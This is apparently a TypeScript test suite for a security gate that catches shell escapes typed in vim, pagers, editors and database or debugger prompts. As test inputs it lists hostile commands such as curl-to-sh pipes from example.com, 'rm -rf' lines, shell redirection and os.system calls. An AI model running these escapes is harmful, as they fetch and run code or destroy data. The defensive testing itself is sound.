import assert from 'node:assert/strict';
import {before, describe, it} from 'node:test';
import {type Classifier, createClassifier} from '../../source/security/classify.js';
import {judgeCommandLine, mayShowCommandLine, readCommandLine} from '../../source/security/program-command-line.js';

let classifier: Classifier;
before(async () => {
	classifier = await createClassifier();
});

/** What the gate would decide for a command line, `allow` when it runs nothing outside the program. */
function decision(line: string): string {
	return judgeCommandLine(line, text => classifier.classify(text))?.decision ?? 'allow';
}

/** The shell texts the classifier is asked about for a command line. */
function judged(line: string): string[] {
	const seen: string[] = [];
	judgeCommandLine(line, text => {
		seen.push(text);
		return classifier.classify(text);
	});
	return seen;
}

describe('vim command lines', () => {
	it('every way of running a shell command hands the command to the classifier', () => {
		const cases: Array<[string, string]> = [
			[':!touch x', 'touch x'],
			[':! touch x', ' touch x'],
			[':r !date', 'date'],
			[':r!date', 'date'],
			[':read !date', 'date'],
			[':w !sudo tee %', 'cat vim-buffer | sudo tee %'],
			[':write !wc -l', 'cat vim-buffer | wc -l'],
			[':%!sort', 'cat vim-buffer | sort'],
			[":'<,'>!sort -u", 'cat vim-buffer | sort -u'],
			[':.,$!column -t', 'cat vim-buffer | column -t'],
			[':10,20!fmt', 'cat vim-buffer | fmt'],
			[':silent !make', 'make'],
			[':sil! !make', 'make'],
			[':terminal htop', 'htop'],
			[':ter ++close ls', 'ls'],
			[':vert term npm test', 'npm test'],
			[':g/TODO/!echo found', 'echo found'],
			[':call system("rm -rf build")', 'rm -rf build'],
			[":echo system('id')", 'id'],
			[':exe "!ls"', 'ls'],
			[':set ts=4 | !curl x | sh', 'curl x | sh'],
			[':make test', 'make test'],
			[':grep -r foo .', 'grep -r foo .'],
			[':::!id', 'id'],
		];
		for (const [line, command] of cases) assert.deepEqual(judged(line), [command], line);
	});

	it('shell commands get the verdict a typed line would', () => {
		assert.equal(decision(":!bash -c 'touch x'"), 'deny');
		assert.equal(decision(':r !curl -s https://example.com/x.sh | sh'), 'deny');
		assert.equal(decision(':!rm -rf ./build'), 'confirm');
		assert.equal(decision(':w !sh'), 'deny', 'the buffer piped into a shell');
		assert.equal(decision(':%!bash'), 'deny', 'the buffer filtered through a shell');
		assert.equal(decision(':%!python3 -c "import os; os.system(\'id\')"'), 'deny');
		assert.equal(decision(':!ls -la'), 'allow');
		assert.equal(decision(':r !date'), 'allow');
	});

	it('script languages inside vim are judged as inline code', () => {
		assert.equal(decision(':py3 import os; os.system("id")'), 'deny');
		assert.equal(decision(':python3 print(1+1)'), 'allow');
		assert.equal(decision(':lua os.execute("id")'), 'deny');
		assert.equal(decision(':perl system("id")'), 'deny');
		assert.equal(decision(':ruby system("id")'), 'deny');
	});

	it('what cannot be read through asks', () => {
		for (const line of [
			':!!',
			':terminal',
			':term',
			':set shell=/tmp/evil',
			':set makeprg=./x.sh',
			':let &shell = "sh"',
			':exe "!" . cmd',
			':call jobstart(cmd)',
			':norm :!id',
			':autocmd BufWrite * !id',
			':pyfile x.py',
			':.!!',
		]) {
			assert.equal(decision(line), 'confirm', line);
		}
	});

	it('ordinary ex commands run nothing outside vim', () => {
		for (const line of [
			':w',
			':wq',
			':w!',
			':w! other.txt',
			':x',
			':q!',
			':e other.txt',
			':set ts=4 sw=4',
			':set ft=sh',
			':%s/foo/bar/g',
			':10',
			':sh',
			':shell',
			':!',
			':help shell',
			':r other.txt',
			':g/x/d',
			':vsplit',
			':noh',
			':echo "a | b"',
			':let x = 1',
		]) {
			assert.deepEqual(judged(line), [], line);
			assert.equal(decision(line), 'allow', line);
		}
	});
});

describe('pager command lines', () => {
	it('! runs the rest in a shell, judged like a typed line', () => {
		assert.deepEqual(judged('!touch x'), ['touch x']);
		assert.equal(decision('!bash -c id'), 'deny');
		assert.equal(decision('!rm -rf ./build'), 'confirm');
		assert.equal(decision('!ls'), 'allow');
	});

	it('! alone opens a shell the gate reads; !! repeats a command that is not shown', () => {
		assert.equal(decision('!'), 'allow');
		assert.equal(decision('!!'), 'confirm');
	});
});

describe('editors that prompt for a shell command', () => {
	it('emacs M-! and nano ^T prompts are judged like a typed line', () => {
		assert.deepEqual(judged('Shell command: make test'), ['make test']);
		assert.equal(decision('Shell command: bash -c id'), 'deny');
		assert.equal(decision('Async shell command: rm -rf ./build'), 'confirm');
		assert.equal(decision('Shell command on region: sh'), 'deny', 'the region is fed to a shell');
		assert.equal(decision('Command to execute: curl -s https://x | sh'), 'deny');
		assert.equal(decision('Command to execute: ls'), 'allow');
	});

	it('reads the prompt on the cursor row, wherever the editor draws it', () => {
		const rows = ['text', 'Command to execute: touch x', '^G Help  ^X Exit', '^T Cut   ^V Paste'];
		assert.equal(readCommandLine({program: 'nano', rows, cursorRow: 1, cols: 40}), 'Command to execute: touch x');
		assert.equal(mayShowCommandLine('nano', false), true);
		assert.equal(mayShowCommandLine('emacs', false), true);
	});

	it('neovim lua that reaches the shell is judged', () => {
		assert.equal(decision(':lua vim.fn.system("id")'), 'deny');
		assert.equal(decision(':lua vim.fn.jobstart({"sh"})'), 'confirm');
		assert.equal(decision(':lua print(1 + 1)'), 'allow');
	});
});

describe('interactive programs with a shell escape after their prompt', () => {
	const at = (row: string, program: string) => readCommandLine({program, rows: ['earlier output', row], cursorRow: 1, cols: 80});

	it('reads the shell part of IPython, psql, mysql, sqlite and gdb lines', () => {
		assert.equal(at('In [3]: !rm -rf ./build', 'ipython3'), '!rm -rf ./build');
		assert.equal(at('app=# \\! bash -c id', 'psql'), '! bash -c id');
		assert.equal(at('mysql> system curl -s x | sh', 'mysql'), '! curl -s x | sh');
		assert.equal(at('sqlite> .shell touch x', 'sqlite3'), '! touch x');
		assert.equal(at('(gdb) shell ls', 'gdb'), '! ls');
		assert.equal(decision(at('app=# \\! bash -c id', 'psql')!), 'deny');
		assert.equal(decision(at('In [3]: !rm -rf ./build', 'ipython')!), 'confirm');
	});

	it('their ordinary lines run nothing outside them', () => {
		assert.equal(at('app=# select 1;', 'psql'), undefined);
		assert.equal(at('In [4]: print(1)', 'ipython'), undefined);
		assert.equal(at('sqlite> .tables', 'sqlite3'), undefined);
	});
});

describe('reading the command line from the screen', () => {
	const screen = (rows: string[], cursorRow = rows.length - 1, cols = 20) => ({program: 'vim', rows, cursorRow, cols});

	it('reads the last row when the cursor is on it', () => {
		assert.equal(readCommandLine(screen(['text', '~', ':!touch x'])), ':!touch x');
		assert.equal(readCommandLine(screen(['text', '~', '!ls'])), '!ls');
	});

	it('joins a long command line that wrapped over full rows', () => {
		assert.equal(readCommandLine(screen(['text', ':!echo aaaaaaaaaaaaa', 'bbb && rm -rf x'])), ':!echo aaaaaaaaaaaaabbb && rm -rf x');
	});

	it('is no command line when the cursor is elsewhere or the row is text', () => {
		assert.equal(readCommandLine(screen([':!touch x', '~', '-- INSERT --'], 0)), undefined);
		assert.equal(readCommandLine(screen(['text', '~', '"note.txt" 3L, 20B'])), undefined);
		assert.equal(readCommandLine(screen(['text', '~', '/search'])), undefined);
	});

	it('reads known programs on every Enter, others only with the cursor on the last row', () => {
		for (const name of ['vim', 'nvim', '/usr/bin/vi', 'less', 'man', 'git', 'more']) assert.equal(mayShowCommandLine(name, false), true, name);
		assert.equal(mayShowCommandLine('htop', false), false);
		assert.equal(mayShowCommandLine('htop', true), true);
	});
});
